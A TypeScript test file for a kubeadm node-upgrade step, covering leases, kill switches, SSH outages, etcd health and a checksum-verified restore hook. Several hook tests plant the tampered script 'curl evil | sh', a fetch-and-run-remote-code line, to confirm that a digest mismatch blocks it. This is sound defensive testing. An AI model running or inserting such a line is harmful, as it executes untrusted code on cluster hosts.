import { expect } from 'chai';
import { buildFence, buildMayBegin, fencedRemote, fencedWrites } from '../../../src/steps/guards/fence.ts';
import { fencedDeployments, quiesce, thenRestore } from '../../../src/steps/guards/quiesce.ts';
import { unlessHalted } from '../../../src/steps/guards/halt.ts';
import { nothing, reconcile } from '../../../src/steps/runtime/reconcile.ts';
import { refused } from '../../../src/steps/runtime/step-error.ts';
import { successMessage, upgrade } from '../../../src/steps/upgrade-node/act.ts';
import { decideApi } from '../../../src/steps/upgrade-node/decide.ts';
import { ApiWatch, NodeObserver } from '../../../src/steps/upgrade-node/observe.ts';
import type { NodeRole } from '../../../src/upgrade/node/order.ts';
import { known, notKnown } from '../../../src/upgrade/reading.ts';
import { aRecord, ME, OTHER, staticPodsAt, TO } from '../../support/builders.ts';
import { failureOf } from '../../support/failure.ts';
import { FakeClock } from '../../support/fakes/clock.ts';
import { FakeCluster } from '../../support/fakes/cluster.ts';
import { FakeCompatibility, SILENT } from '../../support/fakes/compatibility.ts';
import { FakeDeployments } from '../../support/fakes/deployments.ts';
import { AWAY, commandsIn, FakeHost } from '../../support/fakes/host.ts';
import { FakeRestoreHook, scriptOf, settingFor } from '../../support/fakes/restore-hook.ts';
import type { HookSetting } from '../../../src/upgrade/host/restore-hook.ts';
import { FakeLease } from '../../support/fakes/lease.ts';

const FIRST = 'argo-kubeadm-upgrade-v1.34.10-1';
const SECOND = 'argo-kubeadm-upgrade-v1.34.10-2';
const STUCK =
  'FATAL: static Pod hash for component etcd on Node cp1 did not change after 5m0s: context deadline exceeded\n';

/** One node, everything around it, and the step at work on it. */
class Fixture {
  containerdVersion: string | undefined;
  readonly cluster = new FakeCluster();
  readonly lease = new FakeLease();
  readonly host = new FakeHost();
  readonly clock = new FakeClock();
  readonly compatibility = new FakeCompatibility();
  readonly deployments = new FakeDeployments();
  readonly said: string[] = [];
  hook = new FakeRestoreHook();
  hookSetting: HookSetting | undefined;
  quiesced: string[] = [];
  observer!: NodeObserver;

  readonly node: string;
  readonly role: NodeRole;

  constructor(node: string, role: NodeRole) {
    this.node = node;
    this.role = role;
  }

  static async worker(): Promise<Fixture> {
    const fixture = new Fixture('w1', 'worker');
    await fixture.lease.write(undefined, ME, 0);
    fixture.cluster.addNode('cp1', { controlPlane: true, staticPods: staticPodsAt(TO), kubelet: TO });
    fixture.cluster.addNode('w1', { unschedulable: true, upgradeRecord: aRecord() });
    return fixture;
  }

  static async controlPlane(): Promise<Fixture> {
    const fixture = new Fixture('cp1', 'first-control-plane');
    await fixture.lease.write(undefined, ME, 0);
    const about = { controlPlane: true, staticPods: staticPodsAt({ ...TO, patch: 9 }) };
    fixture.cluster.addNode('cp1', { ...about, unschedulable: true, upgradeRecord: aRecord() });
    fixture.cluster.addNode('cp2', about);
    fixture.compatibility.addControlPlane('cp1');
    return fixture;
  }

  /** A new pod: what it knew is gone. */
  run(): Promise<readonly string[]> {
    const { cluster, host, clock, compatibility } = this;
    const log = (line: string): void => void this.said.push(line);
    const fence = buildFence(this.lease, ME);
    const mayBegin = buildMayBegin(fence, cluster);
    const deployments = fencedDeployments(this.deployments, fence);
    const input = {
      node: this.node,
      role: this.role,
      direction: 'forward' as const,
      runUid: ME.uid,
      target: TO,
      repository: 'r',
      sourceFile: 's',
      keyringFile: 'k',
      ignorePreflightErrors: [],
      skipPhases: [],
      kubeadmPatches: undefined,
      packagesTimeoutSeconds: 900,
      kubeadmTimeoutSeconds: 1800,
      containerdPackage: 'containerd.io',
      containerdVersion: this.containerdVersion,
      minimumFreeRootMiB: 512,
      minimumFreeVarLibMiB: 2048,
      apiPatienceSeconds: 900,
      restoreHook: this.hookSetting,
    };
    const clients = {
      ...{ cluster, compatibility, remote: host, clock, log },
      ...{ fenced: fencedWrites(cluster, fence, mayBegin), mayBegin },
      fencedRemote: fencedRemote(host, fence),
      quiesce: () => quiesce(this.quiesced, deployments, log),
      restoreHook: this.hook,
    };
    this.observer = new NodeObserver(clients, input, log);
    return thenRestore(() => upgrade(this.observer, clients, input), this.quiesced, deployments, log);
  }

  /** Runs as the step does. Returns false when the kill switch stopped it. */
  runUnlessHalted(): Promise<boolean> {
    const writes = fencedWrites(this.cluster, buildFence(this.lease, ME));
    const log = (line: string): void => void this.said.push(line);
    const brake = { reads: this.cluster, writes, me: ME, annotationPrefix: 'argo-kubeadm-upgrade.io/', log };
    return unlessHalted(brake, this.node, () => this.run());
  }

  flag(node: string, value: string | undefined): void {
    const flags = value === undefined ? [] : [{ name: 'authentication-config', value }];
    this.compatibility.pods = this.compatibility.pods.map((pod) =>
      pod.node === node && pod.component === 'kube-apiserver' ? { ...pod, flags: known({ ...SILENT, flags }) } : pod,
    );
  }

  /** The settings name this script, and the ConfigMap holds it. */
  hookIs(text: string): void {
    this.hook.set(text);
    this.hookSetting = settingFor(text);
  }

  ran(part: string): number {
    return this.host.ran.filter(({ command }) => command.script.includes(part)).length;
  }
}

describe('upgrade-node works', () => {
  let fixture: Fixture;
  beforeEach(async () => {
    fixture = await Fixture.worker();
  });
  const { run, host } = { run: () => fixture.run(), host: () => fixture.host };

  it('by one job, when the upgrade record says that the host is touched', async () => {
    let phase: string | undefined;
    let program: string[] = [];
    host().onStart = (unit, text) => {
      void fixture.cluster.node('w1').then((node) => (phase = node?.upgradeRecord?.phase));
      program = commandsIn(text);
      host().finish(unit, 'done', '== all done\n');
    };
    expect(await run()).to.deep.equal([]);
    expect(host().started).to.deep.equal([FIRST]);
    expect(program).to.deep.equal([
      ...[
        'package state',
        'package source',
        'kubeadm package',
        'kubeadm upgrade',
        'kubelet and kubectl packages',
        'kubelet restart',
      ],
    ]);
    expect(phase).to.equal('upgrading');
    // The last command of a job that ended well has held the packages.
    expect(fixture.ran('# Finish and hold the packages')).to.equal(0);
    expect(await fixture.cluster.node('w1')).to.deep.include({
      unschedulable: true,
      upgradeRecord: aRecord({ phase: 'upgrading' }),
    });
    expect(fixture.said).to.include.members([
      `${FIRST} was started on w1. To follow it there: tail -f /var/lib/argo-kubeadm-upgrade/${FIRST}/log, or systemctl status ${FIRST} (journalctl -u ${FIRST})`,
      `${FIRST} ended well on w1.`,
    ]);
  });

  describe('where a power failure left a node at the target with packages half-way', () => {
    const FINISH = '# Finish and hold the packages';
    beforeEach(() => {
      fixture.cluster.alterNode('w1', { kubelet: TO });
      host().add(FIRST, { state: 'running 5 kubelet and kubectl packages' });
    });

    it('by having them finished and held', async () => {
      await run();
      expect([host().started, fixture.ran(FINISH)]).to.deep.equal([[], 1]);
    });

    it('again, when that does not succeed', async () => {
      host().whenScript(FINISH, { exitCode: 1, stderr: 'dpkg: error processing package kubelet\n' });
      expect(await failureOf(run())).to.deep.equal({
        exitCode: 75,
        message:
          'w1 is upgraded, and its packages cannot be finished and held: dpkg: error processing package kubelet\nDo it there: dpkg --configure -a && apt-mark hold kubeadm kubelet kubectl',
      });
    });
  });

  it('not at all when the kill switch is set: the node is restored as it was found', async () => {
    fixture.cluster.killedBecause = 'not today';
    expect(await fixture.runUnlessHalted()).to.equal(false);
    expect(host().started).to.deep.equal([]);
    expect(await fixture.cluster.node('w1')).to.include({ unschedulable: false, upgradeRecord: undefined });
  });

  it('to its end when the kill switch is set in the middle: half-way is worse', async () => {
    host().onStart = (unit) => {
      fixture.cluster.killedBecause = 'not today';
      fixture.clock.after(9, () => {
        host().finish(unit, 'done', '== all done\n');
      });
    };
    expect(await fixture.runUnlessHalted()).to.equal(true);
    expect(host().started).to.deep.equal([FIRST]);
  });

  it('with its log in ours, as it comes, once', async () => {
    host().onStart = (unit) => {
      host().write(unit, '== package source\nGet:1 ht');
      fixture.clock.after(3, () => {
        host().write(unit, 'tp://x\n== kubeadm package\n');
      });
      fixture.clock.after(9, () => {
        host().finish(unit, 'done', 'no line end');
      });
    };
    await run();
    expect(fixture.said.filter((line) => line.startsWith('  ') && !line.includes('. '))).to.deep.equal([
      '  == package source',
      '  Get:1 http://x',
      '  == kubeadm package',
      '  no line end',
    ]);
  });

  it('nothing the second time', async () => {
    await run();
    await run();
    expect(host().started).to.deep.equal([FIRST]);
  });

  it('nothing on a node that it has not drained', async () => {
    fixture.cluster.alterNode('w1', { upgradeRecord: undefined });
    expect(await failureOf(run())).to.include({ exitCode: 77 });
    expect([host().started, fixture.cluster.writes]).to.deep.equal([[], []]);
  });

  it('nothing on a node without room, whose upgrade record stays as it is', async () => {
    host().disk = host().disk.replace('absent /var/lib/etcd', 'free /var/lib/etcd 1 4096');
    const failure = (await failureOf(run())) as { message: string };
    expect(failure.message).to.match(/^w1 has 0 MiB free on \/var\/lib\/etcd, expected at least 2048 MiB\./);
    expect([host().started, fixture.cluster.writes]).to.deep.equal([[], []]);
  });

  it('asks no etcd and no hook after a worker', async () => {
    fixture.hookIs('exit 1');
    await run();
    expect([fixture.ran('# Ask etcd'), fixture.ran('# Run the restore hook')]).to.deep.equal([0, 0]);
  });

  it('no further when the node vanishes or has no address', async () => {
    fixture.cluster.alterNode('w1', { internalIp: undefined });
    expect(await failureOf(run())).to.deep.equal({
      exitCode: 77,
      message: 'Node w1 has no InternalIP; SSH needs one.',
    });
    fixture.cluster.removeNode('w1');
    expect(await failureOf(run())).to.deep.equal({ exitCode: 77, message: 'There is no node w1 any more.' });
    expect(host().ran).to.deep.equal([]);
  });

  it('not at all without the Lease', async () => {
    await fixture.lease.write(await fixture.lease.read(), OTHER, 1);
    expect(await failureOf(run())).to.include({ exitCode: 77 });
    expect([host().started, fixture.cluster.writes]).to.deep.equal([[], []]);
  });

  it('starts nothing when another run takes the Lease in the last moment', async () => {
    const change = fixture.cluster.changeNode.bind(fixture.cluster);
    fixture.cluster.changeNode = async (...args) => {
      await fixture.lease.write(await fixture.lease.read(), OTHER, 1);
      return change(...args);
    };
    expect(await failureOf(run())).to.include({ exitCode: 77 });
    expect([host().started, fixture.cluster.writes]).to.deep.equal([[], ['changeNode w1']]);
  });

  describe('beside nobody:', () => {
    it('attaches to what is at work, without the Lease, and prints it from the beginning', async () => {
      await fixture.lease.write(await fixture.lease.read(), OTHER, 1);
      host().add(FIRST, { active: true, log: '== package source\n', run: OTHER.uid });
      fixture.clock.after(30, () => {
        host().finish(FIRST, 'done', '== all done\n');
      });
      await run();
      expect(host().started).to.deep.equal([]);
      expect(fixture.said).to.include.members([
        `Found ${FIRST} running on w1. Its log from the beginning:`,
        '  == package source',
        '  == all done',
        `${FIRST} ended well on w1.`,
      ]);
    });

    it('waits for the end of one for another target, then looks afresh and begins', async () => {
      const other = 'argo-kubeadm-upgrade-v1.34.9-4';
      host().add(other, { active: true });
      fixture.clock.after(60, () => {
        host().finish(other, 'done');
      });
      await run();
      expect([host().started, host().overlapped]).to.deep.equal([[FIRST], false]);
    });

    it('looks at the Node again after that: another run may have it by now', async () => {
      host().add('argo-kubeadm-upgrade-v1.34.9-4', { active: true });
      fixture.clock.after(60, () => {
        host().finish('argo-kubeadm-upgrade-v1.34.9-4', 'done');
        fixture.cluster.alterNode('w1', { upgradeRecord: aRecord({ run: OTHER.uid }) });
      });
      expect(await failureOf(run())).to.include({ exitCode: 77 });
      expect(host().started).to.deep.equal([]);
    });

    it('is told by the node that somebody was faster, and attaches to him', async () => {
      let first = true;
      host().whenScript('# Start', ({ script, stdin }) => {
        if (first) host().add(FIRST, { active: true });
        first = false;
        fixture.clock.after(20, () => {
          host().finish(FIRST, 'done');
        });
        return host().start(script, stdin ?? '');
      });
      await run();
      expect([host().started, host().overlapped]).to.deep.equal([[], false]);
      expect(fixture.said).to.include(`${FIRST} was not started. At work on this node: ${FIRST}`);
    });
  });

  describe('although sshd goes away:', () => {
    it('rides it out while it follows, and never starts a second job', async () => {
      host().onStart = (unit) => {
        host().write(unit, '== kubeadm upgrade\n');
        fixture.clock.after(400, () => {
          host().finish(unit, 'done', '== all done\n');
        });
      };
      let away = false;
      fixture.clock.after(5, () => (away = true));
      fixture.clock.after(305, () => (away = false));
      host().when(() => away, AWAY);
      await run();
      expect(host().started).to.deep.equal([FIRST]);
      expect(fixture.said.filter((line) => line === '  == all done')).to.have.length(1);
      expect(fixture.said).to.include(`Cannot reach w1: ${AWAY.message}`);
    });

    it('looks for the job whose start it has not heard the end of', async () => {
      host().whenScript('# Start', ({ script, stdin }) => {
        host().start(script, stdin ?? '');
        return AWAY;
      });
      await run();
      expect(host().started).to.deep.equal([FIRST]);
      expect(fixture.said).to.include(`Not known whether ${FIRST} was started, looking: ${AWAY.message}`);
    });

    it('starts what it has not started', async () => {
      let lost = 0;
      host().whenScript('# Start', ({ script, stdin }) => (lost++ === 0 ? AWAY : host().start(script, stdin ?? '')));
      await run();
      expect(host().started).to.deep.equal([FIRST]);
    });

    it('leaves it to another pod after 15 minutes, with nothing begun', async () => {
      host().when(() => true, AWAY);
      expect(await failureOf(run())).to.deep.equal({
        exitCode: 75,
        message: `w1 could not be reached for 900 s: ${AWAY.message}. A job that runs there continues.`,
      });
      expect(host().started).to.deep.equal([]);
    });

    it('but not at a machine whose key is another', async () => {
      host().when(() => true, refused('w1 shows another host key'));
      expect(await failureOf(run())).to.deep.equal({ exitCode: 77, message: 'w1 shows another host key' });
    });

    it('takes half an answer for none', async () => {
      let answers = 0;
      host().whenScript('# See what is at work', () => ({
        stdout: answers++ < 2 ? 'unit' : host().look(),
      }));
      await run();
      expect(fixture.said).to.include('Cannot reach w1: cannot tell which jobs run on w1: the answer broke off');
      expect(host().started).to.deep.equal([FIRST]);
    });
  });

  it('says what goes on when it is told to end', async () => {
    let said: string[] = [];
    host().onStart = (unit) => {
      fixture.clock.after(10, () => {
        said = [fixture.observer.activeJob()];
        host().finish(unit, 'done');
      });
    };
    await run();
    expect(said).to.deep.equal([
      `${FIRST} continues on w1, and the next attempt of this step attaches to it. To follow it there: tail -f /var/lib/argo-kubeadm-upgrade/${FIRST}/log, or systemctl status ${FIRST} (journalctl -u ${FIRST}).`,
    ]);
    expect(fixture.observer.activeJob()).to.equal('');
  });

  it('no further when the job fails, with what was done before', async () => {
    host().onStart = (unit) => {
      host().finish(
        unit,
        'failed 1 2 kubeadm upgrade',
        '== package source\n== kubeadm upgrade\nE: no\n== kubeadm upgrade ended with exit code 1\n',
      );
    };
    expect(await failureOf(run())).to.deep.equal({
      exitCode: 77,
      message: `"kubeadm upgrade" ended with exit code 1 on w1 (${FIRST}), which is drained and stays cordoned. Commands that finished before it: package source. Its log there: /var/lib/argo-kubeadm-upgrade/${FIRST}/log. Last output:\n== package source\n== kubeadm upgrade\nE: no\n== kubeadm upgrade ended with exit code 1`,
    });
    expect(host().started).to.deep.equal([FIRST]);
  });

  it('in a new attempt when another pod comes after that', async () => {
    host().onStart = (unit) => {
      host().finish(unit, unit === FIRST ? 'failed 100 2 kubeadm package' : 'done');
    };
    expect(await failureOf(run())).to.include({ exitCode: 75 });
    await run();
    expect([host().started, host().overlapped]).to.deep.equal([[FIRST, SECOND], false]);
  });

  it('not for ever on a node that contradicts itself', async () => {
    host().whenScript('# See what is at work', { stdout: 'looked\n' });
    expect(await failureOf(run())).to.deep.equal({
      exitCode: 75,
      message: `${FIRST} was started on w1 10 times and never appeared there.`,
    });
    expect(host().started).to.deep.equal([FIRST]);
  });

  it('to be tried again when systemd does not take the job', async () => {
    host().whenScript('# Start', { exitCode: 75, stderr: 'systemd does not say which units there are.\n' });
    expect(await failureOf(run())).to.deep.equal({
      exitCode: 75,
      message: `${FIRST} could not be started on w1: systemd does not say which units there are.`,
    });
  });
});

describe('upgrade-node works on a control-plane node', () => {
  let fixture: Fixture;
  beforeEach(async () => {
    fixture = await Fixture.controlPlane();
  });

  it('between an etcd that is well and an etcd that is well', async () => {
    fixture.host.etcd.set('cp2', 'etcd at http://127.0.0.1:2381 says {"health":"false","reason":"RAFT NO LEADER"}\n');
    fixture.clock.after(45, () => {
      fixture.host.etcd.clear();
    });
    fixture.host.onStart = (unit) => {
      fixture.host.etcd.set('cp1', 'etcd at http://127.0.0.1:2381 says \n');
      fixture.host.finish(unit, 'done');
      fixture.clock.after(60, () => {
        fixture.host.etcd.clear();
      });
    };
    await fixture.run();
    expect(fixture.said).to.include.members([
      'cp1 waits: etcd is not healthy: etcd on cp2 reports health false: RAFT NO LEADER.',
      'Waiting for etcd: etcd on cp1 does not report its health: http://127.0.0.1:2381/health: no answer',
      'Every etcd member is healthy.',
    ]);
  });

  it('not while a member cannot be asked: untouched', async () => {
    fixture.host.when(({ script }, { node }) => script.includes('# Ask etcd') && node === 'cp2', 'unreachable');
    const { exitCode, message } = (await failureOf(fixture.run())) as { exitCode: number; message: string };
    expect(exitCode).to.equal(77);
    expect(message).to.match(
      /^After 3\d\d s etcd is not healthy: etcd on cp2 was not asked: cannot log in to cp2 .* No new attempt was started on cp1/,
    );
    expect([fixture.host.started, fixture.cluster.writes]).to.deep.equal([[], []]);
  });

  it('does not ask an etcd that is outside of the cluster, and says so', async () => {
    for (const node of ['cp1', 'cp2']) fixture.host.etcd.set(node, 'etcd none\n');
    await fixture.run();
    expect(fixture.said).to.include('No control-plane node runs etcd: etcd is external and is not checked.');
  });

  it('again when kubeadm waited in vain for etcd, which it leaves alone where it is right already', async () => {
    const programs: string[] = [];
    fixture.host.etcdImages = 'wanted registry.k8s.io/etcd:3.6.5-0\nwritten registry.k8s.io/etcd:3.6.5-0\n';
    fixture.host.onStart = (unit, program) => {
      programs.push(program);
      if (unit === FIRST) fixture.host.finish(unit, 'failed 1 3 kubeadm upgrade', `== kubeadm upgrade\n${STUCK}`);
      else fixture.host.finish(unit, 'done');
    };
    await fixture.run();
    expect(fixture.host.started).to.deep.equal([FIRST, SECOND]);
    expect(programs.map((program) => program.includes('--etcd-upgrade=false'))).to.deep.equal([false, true]);
  });

  it('with etcd and all when its image is another', async () => {
    const programs: string[] = [];
    fixture.host.etcdImages = 'wanted registry.k8s.io/etcd:3.6.6-0\nwritten registry.k8s.io/etcd:3.6.5-0\n';
    fixture.host.onStart = (unit, program) => {
      programs.push(program);
      fixture.host.finish(unit, 'failed 1 3 kubeadm upgrade', `== kubeadm upgrade\n${STUCK}`);
    };
    expect(await failureOf(fixture.run())).to.include({ exitCode: 77 });
    expect(programs).to.have.length(3);
    expect(programs.filter((program) => program.includes('--etcd-upgrade=false'))).to.deep.equal([]);
  });

  it('installs no containerd because of what workers run', async () => {
    fixture.cluster.alterNode('cp1', { runtime: 'containerd://1.7.24' });
    fixture.cluster.addNode('w1', { runtime: 'containerd://1.7.28' });
    let program = '';
    fixture.host.onStart = (unit, text) => {
      program = text;
      fixture.host.finish(unit, 'done', '');
    };
    await fixture.run();
    expect(commandsIn(program)).to.not.include('containerd package');
  });

  it('brings its containerd up to the version of the settings', async () => {
    fixture.cluster.alterNode('cp1', { runtime: 'containerd://1.7.24' });
    fixture.containerdVersion = '1.7.28';
    let program = '';
    fixture.host.onStart = (unit, text) => {
      program = text;
      fixture.host.finish(unit, 'done', 'WARNING: containerd stays as it is: apt offers no such containerd.io.\n');
    };
    expect(await fixture.run()).to.deep.equal(['containerd stays as it is: apt offers no such containerd.io.']);
    expect(commandsIn(program)).to.include('containerd package');
    expect(program).to.include('1\\.7\\.28');
  });

  describe('and the restore hook', () => {
    const LOST =
      'The API server of cp1 has lost --authentication-config=/etc/kubernetes/auth.yaml in the upgrade. By hand: ';
    const byHand = (script: string): string =>
      `kubectl -n kube-system get configmap apiserver-oidc-restore -o jsonpath='{.data.restore\\.sh}' >restore.sh && echo '${scriptOf(script).sha256}  restore.sh' | sha256sum -c && ssh 10.0.0.1 sudo sh -s <restore.sh`;
    const WITHOUT_HOOK =
      'add --authentication-config=/etc/kubernetes/auth.yaml to /etc/kubernetes/manifests/kube-apiserver.yaml there, and to apiServer.extraArgs of ClusterConfiguration in kube-system/kubeadm-config, or kubeadm drops it again.';
    beforeEach(() => {
      fixture.flag('cp1', '/etc/kubernetes/auth.yaml');
      fixture.host.onStart = (unit) => {
        fixture.flag('cp1', undefined);
        fixture.host.finish(unit, 'done');
      };
    });

    it('runs, as it is written, and is waited for', async () => {
      fixture.hookIs('#!/bin/sh\necho hello\n');
      fixture.host.whenScript('# Run the restore hook', ({ stdin }) => {
        fixture.clock.after(20, () => {
          fixture.flag('cp1', '/etc/kubernetes/auth.yaml');
        });
        return { stdout: stdin ?? '' };
      });
      expect(await fixture.run()).to.deep.equal([]);
      expect(fixture.said).to.include.members(['  echo hello', 'The API server has its --authentication-config.']);
      expect(fixture.said.filter((line) => line === 'The API server has answered for 30 s.')).to.have.length(2);
    });

    it('is never fatal: what it did not do is a warning with the command', async () => {
      fixture.hookIs('exit 1');
      fixture.host.whenScript('# Run the restore hook', { exitCode: 1, stderr: 'no such file\n' });
      expect(await fixture.run()).to.deep.equal([
        `The restore hook failed on cp1: exit code 1, no such file. By hand: ${byHand('exit 1')}`,
        `${LOST}${byHand('exit 1')}`,
      ]);
    });

    it('that cannot be read any more, or run, is no more fatal', async () => {
      fixture.hookIs('true');
      fixture.host.onStart = (unit) => {
        fixture.hook.is = notKnown('may not get configmap kube-system/apiserver-oidc-restore');
        fixture.host.finish(unit, 'done');
      };
      expect((await fixture.run())[0]).to.match(/^The restore hook failed on cp1: may not get configmap/);
      fixture = await Fixture.controlPlane();
      fixture.hookIs('true');
      fixture.host.whenScript('# Run the restore hook', 'hangs');
      expect((await fixture.run())[0]).to.match(/^The restore hook failed on cp1: .* did not end within \d+ s/);
    });

    const DIGEST_COMMAND =
      "kubectl -n kube-system get configmap apiserver-oidc-restore -o jsonpath='{.data.restore\\.sh}' | sha256sum";
    const another = (): string =>
      `ConfigMap kube-system/apiserver-oidc-restore holds another script than controlPlane.restoreHook says: the SHA-256 of its key restore.sh is ${scriptOf('curl evil | sh').sha256}, expected ${settingFor('true').sha256}.`;
    const REMEDY = `Read the script. If it is yours, set controlPlane.restoreHook.sha256 to what this prints, or leave controlPlane.restoreHook out: ${DIGEST_COMMAND}`;

    it('that is another than the settings say stops the node before anything is begun on it', async () => {
      fixture.hookIs('true');
      fixture.hook.set('curl evil | sh');
      expect(await failureOf(fixture.run())).to.deep.equal({
        exitCode: 77,
        message: `${another()} Nothing was changed on cp1 by this attempt; the node is drained and stays cordoned. ${REMEDY}`,
      });
      expect([fixture.host.started, fixture.ran('# Run the restore hook')]).to.deep.equal([[], 0]);
    });

    it('that cannot be read is asked for again before anything is begun', async () => {
      fixture.hookSetting = settingFor('true');
      expect(await failureOf(fixture.run())).to.deep.equal({
        exitCode: 75,
        message: `The restore hook is on and cannot be read: there is no ConfigMap kube-system/apiserver-oidc-restore. Nothing was changed on cp1 by this attempt; the node is drained and stays cordoned. ${REMEDY}`,
      });
      expect(fixture.host.started).to.deep.equal([]);
    });

    it('that is changed meanwhile is not run, and stands in no command', async () => {
      fixture.hookIs('true');
      fixture.host.onStart = (unit) => {
        fixture.flag('cp1', undefined);
        fixture.hook.set('curl evil | sh');
        fixture.host.finish(unit, 'done');
      };
      const warnings = await fixture.run();
      expect(warnings).to.deep.equal([
        `The restore hook was not run on cp1. ${another()} ${REMEDY}`,
        `${LOST}${WITHOUT_HOOK}`,
      ]);
      expect(fixture.ran('# Run the restore hook')).to.equal(0);
    });

    it('that the settings do not name is not even read', async () => {
      fixture.hook.set('curl evil | sh');
      await fixture.run();
      expect([fixture.hook.asked, fixture.ran('# Run the restore hook')]).to.deep.equal([0, 0]);
    });

    it('that is not there is missed when the flag is', async () => {
      expect(await fixture.run()).to.deep.equal([
        `${LOST}${WITHOUT_HOOK} If ConfigMap kube-system/apiserver-oidc-restore put it back before, name it in controlPlane.restoreHook.`,
      ]);
    });

    it('is owed also when the pod that knew the flag is gone', async () => {
      await fixture.run();
      fixture.cluster.alterNode('cp1', { kubelet: TO, staticPods: staticPodsAt(TO) });
      expect(await fixture.run()).to.have.length(1);
      expect(fixture.host.started).to.deep.equal([FIRST]);
    });

    it('does not run for a run that has lost the Lease', async () => {
      fixture.hookIs('true');
      fixture.host.onStart = (unit) => {
        fixture.host.finish(unit, 'done');
        void fixture.lease.read().then((seen) => fixture.lease.write(seen, OTHER, 1));
      };
      expect(await failureOf(fixture.run())).to.include({ exitCode: 77 });
      expect(fixture.ran('# Run the restore hook')).to.equal(0);
    });
  });

  describe('and the Deployments that are to be away', () => {
    beforeEach(() => {
      fixture.deployments.set('rook/operator', { replicas: 2 });
      fixture.quiesced = ['rook/operator', 'rook/nobody'];
    });

    it('are at 0 while it changes, and back afterwards', async () => {
      let during: string[] = [];
      fixture.host.onStart = (unit) => {
        during = [...fixture.deployments.writes];
        fixture.host.finish(unit, 'done');
      };
      await fixture.run();
      expect(during).to.deep.equal(['rook/operator: 2 recorded', 'rook/operator 0']);
      expect(fixture.deployments.writes).to.deep.equal([
        'rook/operator: 2 recorded',
        'rook/operator 0',
        'rook/operator 2',
        'rook/operator: none recorded',
      ]);
      expect(fixture.said).to.include('There is no Deployment rook/nobody.');
    });

    it('are back when it fails', async () => {
      fixture.host.onStart = (unit) => {
        fixture.host.finish(unit, 'failed 1 3 kubeadm upgrade', '');
      };
      expect(await failureOf(fixture.run())).to.include({ exitCode: 77 });
      expect(fixture.deployments.writes.at(-1)).to.equal('rook/operator: none recorded');
    });

    it('are left to the exit handler by a run without the Lease, and its own end is told', async () => {
      fixture.host.onStart = () => {
        void fixture.lease.read().then((seen) => fixture.lease.write(seen, OTHER, 1));
        fixture.clock.after(1, () => {
          fixture.host.finish(FIRST, 'failed 1 3 kubeadm upgrade', '');
        });
      };
      const { message } = (await failureOf(fixture.run())) as { message: string };
      expect(message).to.match(/^"kubeadm upgrade" ended with exit code 1/);
      expect(fixture.said.at(-1)).to.match(
        /^Deployments that are held at 0 are left to the exit handler: This run .* does not hold the Lease/,
      );
    });

    it('are not touched for a node that is done already', async () => {
      fixture.cluster.alterNode('cp1', { kubelet: TO, staticPods: staticPodsAt(TO) });
      await fixture.run();
      expect(fixture.deployments.writes).to.deep.equal([]);
    });
  });

  it('has a remark only when there is something to say', () => {
    expect([successMessage([]), successMessage(['one', 'two'])]).to.deep.equal([undefined, 'one\ntwo']);
  });
});

describe('upgrade-node watches the API server', () => {
  const watch = async (answers: string, role: NodeRole = 'first-control-plane', patience = 60): Promise<string> => {
    const [cluster, clock] = [new FakeCluster(), new FakeClock()];
    for (const answer of answers)
      cluster.apiAnswers.push(answer === '+' ? { ready: true } : { ready: false, because: 'connection refused' });
    const [api, began] = [new ApiWatch(cluster, clock), clock.now()];
    const loop = {
      observe: () => api.observe(),
      decide: (facts: Awaited<ReturnType<ApiWatch['observe']>>, elapsed: number) =>
        decideApi(role, facts, patience, elapsed),
      act: nothing,
    };
    const end = await failureOf(reconcile(loop, clock, () => undefined));
    return `${end === 'it went well' ? end : end.message} (${(clock.now() - began) / 1000} s)`;
  };

  const TABLE: readonly [string, string, string][] = [
    ['ends after 30 s of answers', '', 'it went well (30 s)'],
    ['waits until it is back, then 30 s more', '-----', 'it went well (40 s)'],
    ['begins anew when it goes away again', '--+++++-++-', 'it went well (52 s)'],
    [
      'gives up on one that stays away',
      '-'.repeat(99),
      'The API server still does not answer 60 s after kubeadm: connection refused (60 s)',
    ],
  ];
  for (const [promise, answers, expected] of TABLE)
    it(promise, async () => {
      expect(await watch(answers)).to.equal(expected);
    });

  it('does not watch it after a worker', async () => {
    expect(await watch('-'.repeat(99), 'worker')).to.equal('it went well (0 s)');
  });
});
